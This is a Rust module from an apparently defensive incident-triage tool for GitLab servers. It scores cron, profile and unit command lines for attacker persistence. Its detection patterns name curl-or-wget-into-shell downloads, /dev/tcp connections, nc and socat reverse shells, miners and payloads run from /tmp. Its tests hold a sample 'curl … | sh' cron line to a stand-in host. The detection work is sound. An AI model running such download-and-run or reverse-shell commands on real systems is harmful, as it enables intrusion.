//! What triage flags for a person to look at, each with the reasons in words.

use serde::Serialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Level {
    /// Worth a look: unusual on a GitLab server, common enough elsewhere.
    Low,
    /// Not how GitLab or a usual system does it.
    Medium,
    /// What attackers do: code from a temporary directory, a deleted executable, a listener
    /// nothing explains, a download piped into a shell.
    High,
}

impl Level {
    pub fn name(self) -> &'static str {
        match self {
            Level::Low => "low",
            Level::Medium => "medium",
            Level::High => "high",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    Process,
    Listener,
    AuthorizedKey,
    Cron,
    Persistence,
    RecentExecutable,
}

impl Kind {
    pub fn name(self) -> &'static str {
        match self {
            Kind::Process => "process",
            Kind::Listener => "listener",
            Kind::AuthorizedKey => "authorized_key",
            Kind::Cron => "cron",
            Kind::Persistence => "persistence",
            Kind::RecentExecutable => "recent_executable",
        }
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct Finding {
    pub kind: Kind,
    pub level: Level,
    /// What it is about: `pid 4242 (xmrig)`, `tcp 0.0.0.0:4444`, `/etc/crontab:12`.
    pub subject: String,
    /// The line, command line or file as found (GitLab tokens redacted, long text cut).
    pub evidence: String,
    pub reasons: Vec<String>,
}

/// Characters of evidence kept: a finding points at the bundle, which holds the rest.
const EVIDENCE_CHARS: usize = 400;

impl Finding {
    pub fn new(kind: Kind, subject: impl Into<String>, evidence: &str) -> Finding {
        let scrubbed = glir_redact::scrub(evidence);
        let mut evidence: String = scrubbed.chars().take(EVIDENCE_CHARS).collect();
        if scrubbed.chars().nth(EVIDENCE_CHARS).is_some() {
            evidence.push('…');
        }
        Finding {
            kind,
            level: Level::Low,
            subject: subject.into(),
            evidence,
            reasons: Vec::new(),
        }
    }

    /// Adds a reason; the finding's level is its highest reason's.
    pub fn flag(&mut self, level: Level, reason: impl Into<String>) {
        if self.reasons.is_empty() || level > self.level {
            self.level = level;
        }
        self.reasons.push(reason.into());
    }

    pub fn with(mut self, reasons: Vec<(Level, String)>) -> Finding {
        for (level, reason) in reasons {
            self.flag(level, reason);
        }
        self
    }
}

/// How a line to review is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shape {
    /// A shell command line (a profile, `rc.local`, a unit's `Exec…=` value, a process's).
    Command,
    /// A crontab line: five schedule fields (or `@reboot`, …), in system crontabs a user, then
    /// the command (`crontab(5)`).
    Crontab { user_field: bool },
}

/// Reasons a shell command (a cron entry, `rc.local`, a profile, a unit's `Exec…=`) looks like
/// an attacker's: what incident reports of cron and profile persistence show again and again.
pub(crate) fn suspicious_command(text: &str, shape: Shape) -> Vec<(Level, String)> {
    let lower = text.to_ascii_lowercase();
    let mut reasons = Vec::new();
    let fetches = ["curl", "wget", "fetch ", "lwp-download"]
        .iter()
        .any(|f| lower.contains(f));
    let segments: Vec<&str> = lower.split('|').collect();
    let piped_to_interpreter = segments.iter().skip(1).any(|s| {
        let first = s.split_whitespace().next().unwrap_or("");
        let base = first.rsplit('/').next().unwrap_or(first);
        matches!(
            base,
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "python" | "python3" | "perl" | "ruby"
        )
    });
    if fetches && (piped_to_interpreter || lower.contains("$(curl") || lower.contains("$(wget")) {
        reasons.push((
            Level::High,
            "downloads code and runs it (curl/wget into a shell)".to_string(),
        ));
    }
    if lower.contains("base64 -d") || lower.contains("base64 --decode") {
        reasons.push((Level::High, "decodes a base64 payload".to_string()));
    }
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        reasons.push((
            Level::High,
            "opens a network connection from the shell (/dev/tcp)".to_string(),
        ));
    }
    let words: Vec<&str> = lower.split_whitespace().collect();
    let reverse_shell_tool = words.iter().any(|w| {
        let base = w.rsplit('/').next().unwrap_or(w);
        matches!(base, "nc" | "ncat" | "netcat" | "socat")
    });
    if reverse_shell_tool && (words.contains(&"-e") || lower.contains("exec:")) {
        reasons.push((
            Level::High,
            "runs a reverse shell (nc -e, socat exec)".to_string(),
        ));
    }
    if let Some(dir) = runs_from_temp(&lower, shape) {
        reasons.push((
            Level::High,
            format!("runs something from {dir}, a directory anyone can write"),
        ));
    }
    if ["xmrig", "minerd", "stratum+tcp", "cryptonight"]
        .iter()
        .any(|m| lower.contains(m))
    {
        reasons.push((Level::High, "names a cryptocurrency miner".to_string()));
    }
    if lower.contains("ld_preload=") {
        reasons.push((Level::Medium, "sets LD_PRELOAD".to_string()));
    }
    let inline_code = words.windows(2).any(|w| {
        let base = w[0].rsplit('/').next().unwrap_or(w[0]);
        matches!(
            (base, w[1]),
            ("python" | "python3", "-c") | ("perl", "-e") | ("ruby", "-e") | ("php", "-r")
        )
    });
    if inline_code {
        reasons.push((Level::Medium, "runs inline interpreter code".to_string()));
    }
    reasons
}

/// Directories anyone can write, where dropped payloads run from.
const TEMP_DIRS: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Words after which a path is run: interpreters, launchers, `chmod +x`.
const LAUNCHERS: [&str; 24] = [
    "sh", "bash", "dash", "zsh", "ksh", "python", "python2", "python3", "perl", "ruby", "php",
    "node", "nohup", "exec", "setsid", "env", "source", ".", "-c", "+x", "u+x", "a+x", "755",
    "777",
];

/// The world-writable directory `path` lies in, if any.
pub(crate) fn temp_dir_of(path: &str) -> Option<&'static str> {
    TEMP_DIRS.into_iter().find(|dir| path.starts_with(dir))
}

/// The temporary directory a command runs something from: a path there in command position
/// (first, after a separator, a variable assignment or a crontab's schedule and user) or after
/// an interpreter. A path there as an argument (`find /tmp/cache -delete`) is not a run.
fn runs_from_temp(lower: &str, shape: Shape) -> Option<&'static str> {
    let tokens: Vec<&str> = lower.split_whitespace().collect();
    let command_start = match shape {
        Shape::Command => 0,
        Shape::Crontab { user_field } => {
            let schedule = if tokens.first().is_some_and(|t| t.starts_with('@')) {
                1
            } else {
                tokens
                    .iter()
                    .take_while(|t| is_schedule_field(t))
                    .count()
                    .min(5)
            };
            schedule + usize::from(user_field)
        }
    };
    tokens.iter().enumerate().find_map(|(i, raw)| {
        let path = raw
            .trim_start_matches(['"', '\'', '(', '`', '$', '-', '@', '+', '!'])
            .trim_end_matches([';', '|', '&', '"', '\'', ')', '`']);
        let dir = temp_dir_of(path)?;
        let prev = i.checked_sub(1).map(|j| tokens[j]);
        let in_command_position = i == command_start
            || prev.is_some_and(|p| {
                p.ends_with([';', '|', '&', '`'])
                    || p.ends_with("$(")
                    || (p.contains('=') && !p.starts_with('-'))
                    || LAUNCHERS.contains(&p.rsplit('/').next().unwrap_or(p))
            });
        in_command_position.then_some(dir)
    })
}

fn is_schedule_field(token: &&str) -> bool {
    !token.is_empty()
        && token
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '*' | '/' | ',' | '-'))
        && token.chars().any(|c| c.is_ascii_digit() || c == '*')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_and_run_is_high() {
        let reasons = suspicious_command(
            "*/5 * * * * root curl -fsSL http://x.example/a | sh",
            Shape::Crontab { user_field: true },
        );
        assert_eq!(reasons[0].0, Level::High, "{reasons:?}");
        assert!(reasons[0].1.contains("downloads"));
    }

    #[test]
    fn ordinary_jobs_pass() {
        let system = Shape::Crontab { user_field: true };
        for line in [
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "0 2 * * * root /opt/gitlab/bin/gitlab-backup create CRON=1",
            "30 3 * * * root curl -fsS https://hc-ping.example/abc > /dev/null",
            "0 4 * * * root find /tmp/cache -mtime +7 -delete",
            "@daily root rm -rf /var/tmp/old",
        ] {
            assert!(suspicious_command(line, system).is_empty(), "{line}");
        }
        let glir = "glir triage host --output /tmp/x.tar.zst";
        assert!(suspicious_command(glir, Shape::Command).is_empty());
    }

    #[test]
    fn a_path_in_a_temporary_directory_is_flagged_where_it_runs() {
        let system = Shape::Crontab { user_field: true };
        let user = Shape::Crontab { user_field: false };
        for (line, shape) in [
            ("*/5 * * * * root /tmp/.x/run", system),
            ("@reboot /dev/shm/.k", user),
            ("* * * * * cd / && /var/tmp/kworker >/dev/null 2>&1", user),
            ("nohup /tmp/a &", Shape::Command),
            ("chmod +x /tmp/a; /tmp/a", Shape::Command),
            ("-/tmp/unit-payload --daemon", Shape::Command),
        ] {
            let reasons = suspicious_command(line, shape);
            assert!(
                reasons.iter().any(|(_, r)| r.contains("anyone can write")),
                "{line}: {reasons:?}"
            );
        }
    }
}
